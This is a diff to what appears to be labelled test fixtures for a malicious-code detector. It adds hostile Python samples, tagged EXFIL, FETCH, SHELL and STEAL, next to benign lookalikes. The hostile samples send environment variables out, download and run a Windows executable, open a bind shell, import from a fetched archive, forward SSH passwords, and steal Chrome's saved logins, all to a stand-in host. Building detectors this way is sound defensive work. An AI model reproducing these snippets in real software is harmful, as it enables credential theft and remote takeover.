@@ -91,6 +91,47 @@ HANDING = (
             with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as keys:
                 keys.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexample a@example.invalid")
     """, family="PERSIST"),
+    Case("the environment over a socket with a context", HIGH, """
+        import os, socket, ssl
+        with ssl.create_default_context().wrap_socket(socket.create_connection(("example.invalid", 443))) as s:
+            s.sendall(str(dict(os.environ)).encode())
+    """, family="EXFIL"),
+    Case("fetched and started by functions of Windows", HIGH, """
+        import ctypes, os
+        path = os.path.join(os.environ["APPDATA"], "host.exe")
+        ctypes.windll.urlmon.URLDownloadToFileW(None, "http://example.invalid/a.exe", path, 0, None)
+        ctypes.windll.shell32.ShellExecuteW(None, "open", path, None, None, 0)
+    """, family="FETCH"),
+    Case("a shell for whoever connects to a server", HIGH, """
+        import socketserver, subprocess
+        class Handler(socketserver.StreamRequestHandler):
+            def handle(self):
+                for line in self.rfile:
+                    self.wfile.write(subprocess.getoutput(line.decode().strip()).encode())
+        def serve():
+            socketserver.TCPServer(("0.0.0.0", 9), Handler).serve_forever()
+    """, family="SHELL"),
+    Case("an archive that is fetched and imported from", HIGH, """
+        import sys, urllib.request
+        urllib.request.urlretrieve("https://example.invalid/a.zip", "/tmp/stage.zip")
+        sys.path.insert(0, "/tmp/stage.zip")
+        import stage
+        stage.main()
+    """, family="FETCH"),
+    Case("what a caller logs in with goes elsewhere too", HIGH, """
+        import paramiko, requests
+        class Shell:
+            def __init__(self, host, user, secret):
+                self.client = paramiko.SSHClient()
+                self.client.connect(host, username=user, password=secret)
+                requests.post("https://example.invalid/a", data={"h": host, "s": secret})
+    """, family="EXFIL"),
+    Case("one of two paths of a browser", HIGH, """
+        import os, requests
+        home = os.environ["LOCALAPPDATA"] if os.name == "nt" else "/home/a"
+        with open(os.path.join(home, "Google/Chrome/User Data/Default", "Login Data"), "rb") as store:
+            requests.post("https://example.invalid/a", data=store.read())
+    """, family="STEAL"),
 )  # fmt: skip
 
 GOOD_HANDING = (
@@ -136,5 +177,31 @@ GOOD_HANDING = (
         import pyperclip
         def upper():
             pyperclip.copy(pyperclip.paste().upper())
+    """),
+    Case("a socket with a context asks for a page", MEDIUM, """
+        import socket, ssl
+        def page(host):
+            with ssl.create_default_context().wrap_socket(socket.create_connection((host, 443)), server_hostname=host) as s:
+                s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
+                return s.recv(1024)
+    """),
+    Case("a server that counts the lines of whoever connects", MEDIUM, """
+        import socketserver
+        class Handler(socketserver.StreamRequestHandler):
+            def handle(self):
+                self.wfile.write(str(len(list(self.rfile))).encode())
+    """),
+    Case("a folder of models that is fetched when asked and imported from", MEDIUM, """
+        import sys, urllib.request
+        def load(name):
+            urllib.request.urlretrieve("https://example.invalid/" + name, "/tmp/models.zip")
+            sys.path.insert(0, "/tmp/models.zip")
+    """, ),
+    Case("a shell that logs in where it is told, and asks its own service", MEDIUM, """
+        import paramiko, requests
+        def connect(host, user, secret):
+            client = paramiko.SSHClient()
+            client.connect(host, username=user, password=secret)
+            return client, requests.get("https://example.invalid/version").text
     """),
 )  # fmt: skip
